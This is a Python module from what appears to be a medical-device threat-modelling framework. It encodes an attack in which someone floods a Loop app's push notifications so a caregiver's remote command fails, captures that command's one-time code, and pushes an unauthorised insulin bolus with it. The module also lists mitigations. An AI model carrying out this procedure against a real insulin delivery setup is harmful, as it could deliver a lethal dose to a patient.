"""Outrun a command: use a caregiver's one-time code before his own command does.

A code counts once, for whoever comes first. Who may push, with the push key or by the site with its
secret, uses up what the push service takes (`flood_push.py`) until a caregiver's command is refused
and the code seen in it is left. How much the service takes is an estimate; a command that goes by
Nightscout takes one way more than a push, and needs no flood to be outrun. Read, not run.
"""

from __future__ import annotations

from collections.abc import Mapping

from banting.attacks.app_sources import APNS_TOO_MANY, LOOP_OTP, LOOP_PUSH, NIGHTSCOUT_PUSH
from banting.attacks.cloud_aims import asked_in_words, bolus
from banting.attacks.cloud_talk import NIGHTSCOUT, PUSH, ask_service
from banting.attacks.flood_push import FLOOD_LASTS_MIN, FLOOD_PER_MIN, NOBODYS_PRESET
from banting.errors import TechniqueFailed
from banting.interfaces import Grip, Listen, Program, Service, Transmit, Wait
from banting.schema.effects import Frame
from banting.schema.facts import Fact, Rule, goal_fact
from banting.schema.intents import Heard, RemoteOverride
from banting.schema.question import Goal
from banting.schema.verdict import TechniqueShown
from banting.units import MS_PER_MIN, MS_PER_S

__all__ = ["OUTRUN_COMMAND", "OutrunCommand"]

_ID = "outrun-command"
_SEEN = frozenset(
    {
        Fact("reach.internet"),
        Fact("push.delivers"),
        Fact("assume.otp-code-seen"),
        Fact("caregiver.in-use"),
        Fact("caregiver.holds-otp-secret"),
        Fact("loop.takes-dose-push"),
    }
)
_BY_PUSH = frozenset({Fact("knows.push-key"), Fact("knows.device-token")})
_BY_SITE = frozenset(
    {
        Fact("knows.api-secret"),
        Fact("nightscout.sends-push"),
        Fact("loop.uploads-device"),
    }
)
_EVERY_MS = MS_PER_MIN // FLOOD_PER_MIN
_TRIES, _AGAIN_MS = 12, 2 * MS_PER_S  # while the code lives
_NOTHING = RemoteOverride(minutes=1)


class OutrunCommand:
    """A bolus with a code that was seen under way."""

    shown = TechniqueShown(
        id=_ID,
        title="Outrun a remote command",
        what="someone who sees a caregiver's remote command with its one-time code, and may push "
        "to the phone, keeps the command away by a flood and pushes his own with the code",
        stop_it="revoke a push key that anyone else may have seen, change the Nightscout secret, "
        "and type one-time codes where nobody sees them",
        cwe=("CWE-294", "CWE-770"),
        cve=(),
        emb3d=("TID-407", "TID-221", "TID-404"),
        attack_ics=("T0855", "T0859", "T0814"),
        sources=(LOOP_OTP, LOOP_PUSH, NIGHTSCOUT_PUSH, APNS_TOO_MANY),
    )
    rules: tuple[Rule, ...] = (
        Rule(
            id="outrun-loop-G1",
            technique=_ID,
            needs=_SEEN | _BY_PUSH,
            gives=goal_fact(Goal.G1),
            says="flood the phone's pushes until a caregiver's command is refused, then push a "
            "bolus with its code",
        ),
        Rule(
            id="outrun-cloud-G1",
            technique=_ID,
            needs=_SEEN | _BY_SITE,
            gives=goal_fact(Goal.G1),
            says="with the Nightscout secret, make Nightscout flood the phone's pushes until a "
            "caregiver's command is refused, then push a bolus with its code",
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Keep the pushes used up until a code comes by, then use it."""
        by_site = rule.needs >= _BY_SITE
        needs = ("api-secret",) if by_site else ("push-key", "device-token")
        held = {name: grip.knows(name) for name in needs}
        name = NIGHTSCOUT if by_site else PUSH
        nothing = {**held, "preset": NOBODYS_PRESET}
        yield Wait(until_ms=grip.strike_ms)
        yield from ask_service(grip, name, _NOTHING, nothing)  # who may not push is refused here
        service = grip.service(name)
        for _ in range(FLOOD_LASTS_MIN * FLOOD_PER_MIN):
            next_ms = grip.now_ms + _EVERY_MS
            push = service.ask(_NOTHING, nothing, grip.now_ms)
            frame: Frame | None = yield Transmit(link=service.link, exchange=push)
            while frame is not None:
                code = _code(grip, frame)
                if code is not None:
                    grip.learn("otp-code", code)
                    return (yield from _use(grip, service, {**held, "otp-code": code}))
                frame = yield Listen(link=service.link, until_ms=next_ms)
        raise TechniqueFailed("no remote command with a one-time code was seen")


def _code(grip: Grip, frame: Frame) -> bytes | None:
    """Return the one-time code in a frame, None where it carries none."""
    return dict(grip.service(PUSH).secrets_in(frame.raw)).get("otp-code") or _by_site(grip, frame)


def _by_site(grip: Grip, frame: Frame) -> bytes | None:
    if frame.to != NIGHTSCOUT:
        return None
    return dict(grip.service(NIGHTSCOUT).secrets_in(frame.raw)).get("otp-code")


def _use(grip: Grip, service: Service, held: Mapping[str, bytes]) -> Program:
    """Ask for a bolus with a code until the push service takes it."""
    wanted = bolus(grip)
    for _ in range(_TRIES):
        asked = service.ask(wanted, held, grip.now_ms)
        answer = yield Transmit(link=service.link, exchange=asked)
        if answer is not None and service.meaning(asked, answer.raw) is Heard.ACCEPTED:
            return f"with the code of the caregiver's command: {asked_in_words(wanted)}"
        yield Wait(until_ms=grip.now_ms + _AGAIN_MS)
    raise TechniqueFailed("the push service took nothing while the code lived")


OUTRUN_COMMAND = OutrunCommand()
